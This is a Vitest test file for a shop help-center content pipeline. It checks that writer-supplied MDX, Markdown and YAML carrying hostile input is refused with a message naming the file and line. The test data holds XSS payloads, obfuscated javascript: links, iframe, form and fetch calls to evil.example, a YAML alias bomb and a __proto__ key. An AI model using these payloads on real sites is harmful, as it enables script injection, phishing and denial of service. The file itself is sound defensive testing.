/**
 * Hostile and careless input to the writer-facing content pipeline, end to end
 * through the shop check (loadShop), the step every build, `astro dev` and the
 * scripts run first. Content is data, not code: whatever a writer (or whoever
 * got write access to the content repository) puts in an article, a policy
 * text, an announcement or a YAML file must either load as plain text or stop
 * the build with a ContentError naming the file, the line and what to write
 * instead. It must never load and be published, and never crash with a raw
 * stack that names no file.
 *
 * Each case copies the fixture shop to a fresh folder, changes one file and
 * runs the check. The valid controls prove the rules do not refuse ordinary
 * writing; the known gaps at the end are inputs the engine does not handle yet.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ContentError, type ContentProblem } from '../../src/content/problems.js';
import { loadShop, type Shop } from '../../src/shop/load-shop.js';
import { copyFixtureShop } from '../helpers/shop-copy.js';

/** Where the input goes: after the file's last line (with a blank line before it, so it is a block of its own), after some text, or instead of it. */
type Place = 'end' | { after: string } | { replace: string };

interface Hostile {
	name: string;
	/** The file changed, relative to content/. */
	file: string;
	input: string;
	place: Place;
	/**
	 * The line of the file the problem must name: the line the input was
	 * written on. 'no line' only for limits on the whole file (its size) and
	 * schema problems, which name the field instead.
	 */
	line: number | 'no line';
	/** Parts of one problem's message, in order: what is wrong and, where the rule has one, what to write instead. */
	says: readonly string[];
	/** A second problem the same input must cause on the same line (an element that is refused and carries a script too). */
	andSays?: readonly string[];
}

interface Control {
	name: string;
	file: string;
	input: string;
	place: Place;
}

let copy: ReturnType<typeof copyFixtureShop>;
let content: string;

beforeEach(() => {
	copy = copyFixtureShop({}, 'adversarial-content-');
	content = copy.content;
});

afterEach(() => copy.remove());

/** Counted over the passing tables: "published" is a hostile input loadShop accepted. */
const tally = { tried: 0, handledRight: 0, published: 0 };

/** Writes the input into the copy and returns the changed text. */
function change(file: string, input: string, place: Place): string {
	const target = path.join(content, file);
	const original = fs.readFileSync(target, 'utf8');
	// A fixture edit that removed the anchor must fail here, not quietly test the unchanged file.
	if (place !== 'end') expect(original, `${file} no longer has the text the case changes`).toContain('after' in place ? place.after : place.replace);
	// Replacer functions, so a "$" in an input is written as it is.
	const changed =
		place === 'end'
			? `${original}\n${input}\n`
			: 'after' in place
				? original.replace(place.after, () => `${place.after}${input}\n`)
				: original.replace(place.replace, () => input);
	fs.writeFileSync(target, changed);
	return changed;
}

type Outcome = { kind: 'loaded'; shop: Shop } | { kind: 'refused'; error: ContentError } | { kind: 'crashed'; error: unknown };

function checkShop(): Outcome {
	try {
		return { kind: 'loaded', shop: loadShop(copy, { includeDrafts: false }) };
	} catch (error) {
		// Only a ContentError reaches the writer as a list of problems; anything else is a crash with a stack.
		return error instanceof ContentError ? { kind: 'refused', error } : { kind: 'crashed', error };
	}
}

/** Problems name files from the copy's root: "content/articles/…". */
const isAbout = (problem: ContentProblem, file: string) => problem.file.endsWith(`content/${file}`);

/** Body problems carry the line as `field: 'line N'`; YAML problems say "line N" in the message (a duplicate key names both of its lines). */
function namesLine(problem: ContentProblem, line: number | 'no line'): boolean {
	if (line === 'no line') return true;
	if (problem.field?.startsWith('line ')) return problem.field === `line ${line}`;
	return problem.field === undefined && new RegExp(`\\bline ${line}\\b`).test(problem.message);
}

function saysInOrder(message: string, parts: readonly string[]): boolean {
	let from = 0;
	for (const part of parts) {
		const at = message.indexOf(part, from);
		if (at === -1) return false;
		from = at + part.length;
	}
	return true;
}

/**
 * Runs a hostile case and asserts it was handled right; counts it only once
 * every assertion held. Known gaps run uncounted: the tally speaks for the
 * passing tables.
 */
function expectRefused(c: Hostile, { counted = true } = {}): void {
	const count = counted ? tally : { tried: 0, handledRight: 0, published: 0 };
	const changed = change(c.file, c.input, c.place);
	// The line in the table must be where the input really stands, or a wrong line in the engine could pass unnoticed.
	if (c.line !== 'no line')
		expect(c.input.split('\n'), `line ${c.line} of the changed file is not part of the input`).toContain(changed.split('\n')[c.line - 1]);
	count.tried += 1;
	const outcome = checkShop();
	if (outcome.kind === 'loaded') {
		count.published += 1;
		expect.fail(`loadShop accepted the hostile input in ${c.file}`);
	}
	if (outcome.kind === 'crashed') {
		const stack = outcome.error instanceof Error ? (outcome.error.stack ?? outcome.error.message) : String(outcome.error);
		expect.fail(`crashed instead of reporting a ContentError:\n${stack}`);
	}
	const problems = outcome.error.problems.filter((p) => isAbout(p, c.file));
	for (const parts of c.andSays ? [c.says, c.andSays] : [c.says]) {
		const found = problems.find((p) => namesLine(p, c.line) && saysInOrder(p.message, parts));
		expect(
			found,
			`no problem for ${c.file} on ${c.line === 'no line' ? 'the file' : `line ${c.line}`} saying ${JSON.stringify(parts)}; got:\n${outcome.error.message}`,
		).toBeDefined();
	}
	count.handledRight += 1;
}

/** Every page the shop check accepted, by its file as shown to writers. */
function loadedFiles(shop: Shop): string[] {
	return [...shop.articles.map((a) => a.file), ...shop.policies.pages.map((p) => p.file), ...shop.announcements.map((a) => a.file)];
}

function expectLoaded(c: Control): void {
	change(c.file, c.input, c.place);
	tally.tried += 1;
	const outcome = checkShop();
	const report = outcome.kind === 'loaded' ? '' : outcome.error instanceof Error ? outcome.error.message : String(outcome.error);
	expect(outcome.kind, `an ordinary text was refused:\n${report}`).toBe('loaded');
	// A page that loads without its file (left out as a draft, say) would not prove the text is accepted.
	if (outcome.kind === 'loaded') expect(loadedFiles(outcome.shop).some((file) => file.endsWith(`content/${c.file}`))).toBe(true);
	tally.handledRight += 1;
}

const TRACK = 'articles/en/orders/track-an-order.mdx';
const RETURNS_TEXT = 'policies/en/returns.mdx';
const BANNER = 'announcements/en/holiday-delays.md';

/** track-an-order.mdx has 14 lines; input added at its end starts on line 16, after a blank line. */
const inArticle = (name: string, input: string, says: readonly string[], extra: { line?: number; andSays?: readonly string[] } = {}): Hostile => ({
	name,
	file: TRACK,
	input,
	place: 'end',
	line: extra.line ?? 16,
	says,
	...(extra.andSays ? { andSays: extra.andSays } : {}),
});

const NO_CODE = 'use <Fact name="..." /> for a policy value';
const LINK_INSTEAD = ['javascript: addresses run code when clicked', 'link to a page instead'];
const FILE_INSTEAD = ['data: addresses hold a whole file inside the text', 'put the image next to the article'];
const MDX_SYNTAX = ['Close every <Component> you open (or write it as <Component />)'];

const articleCases: Hostile[] = [
	inArticle('import of a Node module', "import fs from 'node:fs'", [
		'"import fs from \'node:fs\'": articles cannot import anything',
		'work without an import; remove the line',
	]),
	inArticle('export of an environment variable', 'export const home = process.env.HOME', ['articles cannot export code', NO_CODE]),
	inArticle('{expression} in a paragraph', 'Your folder is {process.env.HOME} today.', [
		'{process.env.HOME} is code',
		NO_CODE,
		'\\{ for a brace that is just text',
	]),
	inArticle('network call in an expression', "{fetch('https://evil.example')}", ["{fetch('https://evil.example')} is code", NO_CODE]),
	// A comment does not make the code after it a comment.
	inArticle('code behind a comment in one expression', '{/* note */ process.env.HOME}', [
		'{/* note */ process.env.HOME} is code',
		'{/* ... */} for a note to other writers',
	]),
	inArticle('<script>', '<script>alert(1)</script>', ['<script> is not allowed here', 'scripts cannot run in articles; ask a developer for a component']),
	// MDX reads the CSS braces as code before the element rule sees <style>: refused as bad syntax, with how to write a literal brace.
	inArticle('<style> with CSS braces', '<style>body{display:none}</style>', [
		'is not valid MDX',
		...MDX_SYNTAX,
		'write \\< and \\{ for a < or { that is just text',
	]),
	// The same CSS smuggled in a template string parses, and meets the element rule.
	inArticle(
		'<style> with the CSS in a template string',
		'<style>{`body{display:none}`}</style>',
		['<style> is not allowed here', 'styles go in content/theme.css'],
		{ andSays: ['is code'] },
	),
	inArticle('<iframe>', '<iframe src="https://evil.example"></iframe>', [
		'<iframe> is not allowed here',
		'use <Video provider="youtube" id="..." title="..." /> for a video',
	]),
	// Written as HTML (no "/>"), a void element is an unclosed tag to MDX.
	inArticle('<meta http-equiv="refresh"> as in HTML', '<meta http-equiv="refresh" content="0;url=https://evil.example">', [
		'is not valid MDX: Expected a closing tag for `<meta>`',
		...MDX_SYNTAX,
	]),
	inArticle('<meta http-equiv="refresh" /> closed', '<meta http-equiv="refresh" content="0;url=https://evil.example" />', [
		'<meta> is not allowed here',
		'comes from the front matter',
	]),
	inArticle('<object>', '<object data="x.swf"></object>', ['<object> is not allowed here', 'use <Video> for a video, a link for a document']),
	inArticle('<embed>', '<embed src="x.swf" />', ['<embed> is not allowed here', 'use <Video> for a video, a link for a document']),
	inArticle('<link rel="stylesheet">', '<link rel="stylesheet" href="https://evil.example/x.css" />', [
		'<link> is not allowed here',
		'styles go in content/theme.css',
	]),
	inArticle('<base href> as in HTML', '<base href="https://evil.example/">', ['is not valid MDX: Expected a closing tag for `<base>`', ...MDX_SYNTAX]),
	inArticle(
		'<form> asking for a card number',
		'<form action="https://evil.example"><input name="card" /></form>',
		['<form> is not allowed here', 'use <ContactButton />'],
		{
			andSays: ['<input> is not allowed here', 'use <ContactButton />'],
		},
	),
	inArticle('onError handler on <img>', '<img src="x" onError="alert(1)" />', ['onError on <img> would run a script', 'remove it']),
	// Attributes carry no position of their own: the engine must find the handler's line inside a tag that spans three.
	inArticle('handler on the third line of a tag', '<img\n  src="x"\n  onerror="alert(1)"\n/>', ['onerror on <img> would run a script', 'remove it'], {
		line: 18,
	}),
	inArticle('<a href="javascript:">', '<a href="javascript:alert(1)">x</a>', ['href="javascript:alert(1)" on <a>', ...LINK_INSTEAD]),
	inArticle('Markdown link to javascript:', '[x](javascript:alert(1))', ['the link address "javascript:alert(1)"', ...LINK_INSTEAD]),
	inArticle('javascript: in mixed case after a space', '[x]( JaVaScRiPt:alert(1))', ['the link address "JaVaScRiPt:alert(1)"', ...LINK_INSTEAD]),
	inArticle('javascript: with an encoded first letter', '[x](&#106;avascript:alert(1))', ['the link address "javascript:alert(1)"', ...LINK_INSTEAD]),
	// Browsers drop a tab inside the scheme, so "java<tab>script:" still runs.
	inArticle('javascript: split by an encoded tab', '<a href="java&#9;script:alert(1)">x</a>', ['on <a>', ...LINK_INSTEAD]),
	inArticle('javascript: in a {literal} attribute', "<a href={'javascript:alert(1)'}>x</a>", ['href="javascript:alert(1)" on <a>', ...LINK_INSTEAD]),
	// The address is on the definition's line, two lines below the link that uses it.
	inArticle('reference link defined as javascript:', '[x][ref]\n\n[ref]: javascript:alert(1)', ['the link address "javascript:alert(1)"', ...LINK_INSTEAD], {
		line: 18,
	}),
	inArticle('data: SVG image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)', ['the image address "data:image/svg+xml', ...FILE_INSTEAD]),
	inArticle('data: in the second srcset candidate', '<img src="/box.png" srcset="/box.png 1x, data:image/png;base64,AAAA 2x" alt="Box" />', [
		'srcset="data:image/png;base64" on <img>',
		...FILE_INSTEAD,
	]),
	inArticle('<Callout {...props}>', '<Callout {...props}>\n\nText.\n\n</Callout>', [
		'<Callout {...props}> passes code to the element',
		'write each attribute out with its value, like type="tip"',
	]),
	inArticle('<Fact name={process.env.SECRET} />', '<Fact name={process.env.SECRET} />', [
		'name={process.env.SECRET} on <Fact> is code',
		'attribute values must be plain: name="text"',
	]),
	inArticle('unknown component <Warnung>', '<Warnung>Achtung</Warnung>', [
		'<Warnung> is not a component of the help center',
		'the components are <Callout>, <Steps>',
	]),
	inArticle('<svg onload>', '<svg onload="alert(1)"></svg>', ['<svg> is not allowed here', 'show it as an image'], {
		andSays: ['onload on <svg> would run a script'],
	}),
	inArticle('set:html directive', '<span set:html="<script>alert(1)</script>" />', [
		'set:html on <span> is a directive for developers',
		'remove it and write the text inside the element',
	]),
	// client: directives would ship a script to the shopper's browser.
	inArticle('client:load directive on a component', '<Callout client:load type="tip">Text</Callout>', [
		'client:load on <Callout> is a directive for developers',
		'client:load adds a script',
		'remove it',
	]),
	inArticle('inline style', '<div style="position:fixed">Sale</div>', ['style on <div> is not allowed', 'put the style in content/theme.css']),
	inArticle('<Callout> never closed', '<Callout>\n\nNever closed.', ['is not valid MDX: Expected a closing tag for `<Callout>`', ...MDX_SYNTAX]),
];

/** returns.mdx has 14 lines, he/shipping.mdx 10: input at the end starts on line 16 and 12. */
const policyCases: Hostile[] = [
	{
		name: '<iframe> in the returns text',
		file: RETURNS_TEXT,
		input: '<iframe src="https://evil.example"></iframe>',
		place: 'end',
		line: 16,
		says: ['<iframe> is not allowed here', 'use <Video provider="youtube"'],
	},
	// An export that tries to restate a policy fact, which lives only in returns.yaml.
	{
		name: 'export in the returns text',
		file: RETURNS_TEXT,
		input: "export const returnWindow = '90 days'",
		place: 'end',
		line: 16,
		says: ['cannot export code', NO_CODE],
	},
	{
		name: '<script> in a translated policy text',
		file: 'policies/he/shipping.mdx',
		input: '<script>alert(1)</script>',
		place: 'end',
		line: 12,
		says: ['<script> is not allowed here', 'ask a developer for a component'],
	},
];

/** holiday-delays.md has 6 lines: input at the end starts on line 8. Announcements are plain Markdown, where any HTML is refused. */
const NO_HTML = ['announcements are plain Markdown, and HTML is not allowed in them', 'write the text with Markdown only'];
const announcementCases: Hostile[] = [
	{ name: '<script> raw HTML', file: BANNER, input: '<script>alert(1)</script>', place: 'end', line: 8, says: ['<script>alert(1)</script>', ...NO_HTML] },
	{
		name: 'inline <img onerror>',
		file: BANNER,
		input: 'Delays <img src=x onerror=alert(1)> expected.',
		place: 'end',
		line: 8,
		says: ['<img src=x onerror=alert(1)>', ...NO_HTML],
	},
	{
		name: 'Markdown link to javascript:',
		file: BANNER,
		input: '[x](javascript:alert(1))',
		place: 'end',
		line: 8,
		says: ['the link address "javascript:alert(1)"', ...LINK_INSTEAD],
	},
	// In plain Markdown <scheme:...> is an autolink, so this is a link, not HTML.
	{
		name: 'autolink to javascript:',
		file: BANNER,
		input: '<javascript:alert(1)>',
		place: 'end',
		line: 8,
		says: ['the link address "javascript:alert(1)"', ...LINK_INSTEAD],
	},
	{
		name: 'data: image',
		file: BANNER,
		input: '![x](data:text/html;base64,PHNjcmlwdD4=)',
		place: 'end',
		line: 8,
		says: ['the image address "data:text/html', ...FILE_INSTEAD],
	},
];

/** Nine levels of nine: a few hundred bytes that would expand to 9^9 (387 million) values. */
const aliasBomb = (indent: string) =>
	['a: &a [x,x,x,x,x,x,x,x,x]', ...'bcdefghi'.split('').map((level, i) => `${level}: &${level} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`)]
		.map((line) => indent + line)
		.join('\n');
const ALIAS_ADVICE = ['uses aliases too much', '(an "alias bomb"); write the values out instead of repeating *anchors'];
/** About 1.1 MB of pasted categories. */
const hugeCategories = Array.from({ length: 17_000 }, (_, i) => `- id: pasted-${i}\n  icon: box\n  title:\n    en: Pasted category ${i}`).join('\n');
/** About 70 kB: a supplier's document pasted into the front matter. */
const hugeFrontMatter = `notes: |\n${Array.from({ length: 1_200 }, () => '  Pasted from the supplier sheet: sizes, colours and care notes.').join('\n')}`;
const AFTER_ORDER = { after: 'order: 10\n' } as const;

const yamlCases: Hostile[] = [
	// The limit of 100 repeated values is crossed at *c, in the "d:" line: line 29 after a blank line and five lines of category.
	{
		name: 'alias bomb in categories.yaml',
		file: 'categories.yaml',
		input: `- id: lol\n  icon: box\n  title:\n    en: LOL\n  description:\n${aliasBomb('    ')}`,
		place: 'end',
		line: 29,
		says: ['uses aliases too much: from *c on line 29 on', ...ALIAS_ADVICE.slice(1)],
	},
	// Front matter starts on line 2; the bomb goes after "order: 10" (line 7), so its "d:" line is 11.
	{ name: 'alias bomb in front matter', file: TRACK, input: aliasBomb(''), place: AFTER_ORDER, line: 11, says: ['front matter', ...ALIAS_ADVICE] },
	{
		name: 'duplicate key in site.yaml',
		file: 'site.yaml',
		input: 'name: Evil Outfitters',
		place: 'end',
		line: 38,
		says: ['has the key "name" twice in the same place, on line 2 and line 38; keep one'],
	},
	{
		name: 'duplicate key in front matter',
		file: TRACK,
		input: 'title: Where is my parcel?',
		place: AFTER_ORDER,
		line: 8,
		says: ['front matter has the key "title" twice in the same place, on line 2 and line 8; keep one'],
	},
	{
		name: 'categories.yaml over 1 MB',
		file: 'categories.yaml',
		input: hugeCategories,
		place: 'end',
		line: 'no line',
		says: ['MB, more than the 1 MB allowed', 'look for pasted data or repeated blocks'],
	},
	{
		name: 'front matter over 64 kB',
		file: TRACK,
		input: hugeFrontMatter,
		place: AFTER_ORDER,
		line: 'no line',
		says: ['front matter is', 'kB, more than the 64 kB allowed', 'keep only the fields'],
	},
	{
		name: 'tab-indented mapping in site.yaml',
		file: 'site.yaml',
		input: '\ttarget: local',
		place: { replace: '  target: local' },
		line: 16,
		says: ['is not valid YAML on line 16: Tabs are not allowed as indentation'],
	},
	{
		name: 'tab-indented mapping in front matter',
		file: TRACK,
		input: 'meta:\n\tsource: import',
		place: { replace: 'order: 10' },
		line: 8,
		says: ['front matter is not valid YAML on line 8: Tabs are not allowed as indentation'],
	},
	{
		name: 'alias without its anchor',
		file: TRACK,
		input: 'summary: *intro',
		place: AFTER_ORDER,
		line: 8,
		says: ['front matter uses the alias *intro on line 8, but no &intro comes before it', 'put the anchor first, or write the value out'],
	},
	// 20,000 nested lists exhaust the parser's stack; the engine must report it, not crash.
	{
		name: 'lists nested 20,000 deep',
		file: TRACK,
		input: `nested: ${'['.repeat(20_000)}${']'.repeat(20_000)}`,
		place: AFTER_ORDER,
		line: 8,
		says: ['front matter is not valid YAML on line 8', 'nested too deeply'],
	},
	// __proto__ as a key must not become the object's prototype (and make the page a draft): it is an unknown field.
	{
		name: '__proto__ key in front matter',
		file: TRACK,
		input: '__proto__:\n  draft: true',
		place: AFTER_ORDER,
		line: 'no line',
		says: ['unknown field "__proto__"; check the spelling or remove it'],
	},
];

const controls: Control[] = [
	{ name: '<Fact name="returnWindow" />', file: TRACK, input: 'You have <Fact name="returnWindow" /> to send items back.', place: 'end' },
	{ name: '{/* a comment */}', file: TRACK, input: '{/* a comment for other writers */}', place: 'end' },
	{
		name: '<Callout type="tip"> with text',
		file: TRACK,
		input: '<Callout type="tip">\n\nKeep the tracking email until the parcel arrives.\n\n</Callout>',
		place: 'end',
	},
	{ name: 'plain link to an article', file: TRACK, input: 'See [this page](/en/orders/track-an-order/) again later.', place: 'end' },
	{ name: '<kbd>Ctrl</kbd>', file: TRACK, input: 'Press <kbd>Ctrl</kbd> and <kbd>F</kbd> to search the page.', place: 'end' },
	{ name: '<details><summary>', file: TRACK, input: '<details><summary>More</summary>Text</details>', place: 'end' },
	// Text about a hostile address is not an address: inline code and code blocks are shown, not followed or run.
	{ name: 'javascript: inside inline code', file: TRACK, input: 'Links starting with `javascript:alert(1)` are refused.', place: 'end' },
	{ name: '<script> inside a code block', file: TRACK, input: '```html\n<script>alert(1)</script>\n```', place: 'end' },
	{ name: 'the word "Data:" in prose', file: TRACK, input: 'Data: we keep your address for 30 days.', place: 'end' },
	{ name: 'escaped \\{ and \\<', file: TRACK, input: 'Sizes are written \\{S, M, L\\} and \\<40 cm.', place: 'end' },
	{ name: '<Callout type="note"> in the returns text', file: RETURNS_TEXT, input: '<Callout type="note">\n\nKeep the receipt.\n\n</Callout>', place: 'end' },
	{ name: 'announcement with bold and a link', file: BANNER, input: 'Questions? See **our** [contact page](/en/contact/).', place: 'end' },
	// Announcements are plain Markdown, not MDX: braces and "import" are text there, and nothing runs.
	{ name: 'announcement with braces and "import" as text', file: BANNER, input: 'import duties may apply {see the invoice}', place: 'end' },
];

describe('article bodies (.mdx): refused with the line and what to use instead', () => {
	it.each(articleCases)('$name', (c) => expectRefused(c));
});

describe('policy texts (.mdx): the same rules as articles', () => {
	it.each(policyCases)('$name', (c) => expectRefused(c));
});

describe('announcements (.md): plain Markdown, no HTML, no unsafe addresses', () => {
	it.each(announcementCases)('$name', (c) => expectRefused(c));
});

describe('YAML (shop files and front matter): refused with the line, never a crash', () => {
	it.each(yamlCases)('$name', (c) => expectRefused(c));
});

describe('valid controls: ordinary writing loads', () => {
	it.each(controls)('$name', (c) => expectLoaded(c));
});

/**
 * Component attributes are checked by the shop check, not when Astro renders
 * the page: a wrong value names the file and line with every other problem.
 */
const attributeCases: Hostile[] = [
	inArticle('<Callout type="danger"> (not note, tip or warning)', '<Callout type="danger">\n\nCareful.\n\n</Callout>', [
		'<Callout> type: must be note, tip or warning',
		'"danger"',
	]),
	inArticle('<Fact name="refundWindow" /> (not a fact)', 'You get your money within <Fact name="refundWindow" />.', [
		'<Fact> name: is not a fact',
		'returnWindow',
	]),
	inArticle('<Video provider="dailymotion" /> (not youtube or vimeo)', '<Video provider="dailymotion" id="x8abcd1" title="Packing a return" />', [
		'<Video> provider: must be youtube or vimeo',
	]),
	inArticle('<Video> without a title', '<Video provider="youtube" id="aqz-KE-bpKQ" />', ['<Video> title: is required']),
	inArticle('<Fact> that is the same everywhere, given a country', 'Refunds take <Fact name="refundTime" country="DE" />.', [
		'<Fact name="refundTime"> is the same in every country: remove country',
	]),
	inArticle('<Callout kind="tip"> (misspelled attribute)', '<Callout kind="tip">\n\nText.\n\n</Callout>', [
		'<Callout> has no attribute "kind"',
		'it takes type',
	]),
];

describe('component attributes: refused by the shop check, with the line', () => {
	it.each(attributeCases)('$name', (c) => expectRefused(c));

	// The yaml library counts lines inside the front matter; the problem must name the file's line only.
	it('a front matter syntax error names one line, not two', () => {
		change(TRACK, 'meta:\n\tsource: import', { replace: 'order: 10' });
		const outcome = checkShop();
		const problem = outcome.kind === 'refused' ? outcome.error.problems.find((p) => isAbout(p, TRACK)) : undefined;
		const lines = new Set([...(problem?.message ?? '').matchAll(/\bline (\d+)/g)].map((m) => m[1]));
		expect([...lines]).toEqual(['8']);
	});
});

describe('the adversarial set', () => {
	it('tries every group it promises', () => {
		expect({
			articles: articleCases.length,
			policies: policyCases.length,
			announcements: announcementCases.length,
			yaml: yamlCases.length,
			attributes: attributeCases.length,
			controls: controls.length,
		}).toEqual({ articles: 35, policies: 3, announcements: 5, yaml: 11, attributes: 6, controls: 13 });
	});
});

// After every test, so the line reports what ran even when a filter (-t) picks a few.
afterAll(() => {
	console.info(`Adversarial content inputs: ${tally.tried} tried, ${tally.handledRight} handled right, ${tally.published} published`);
});
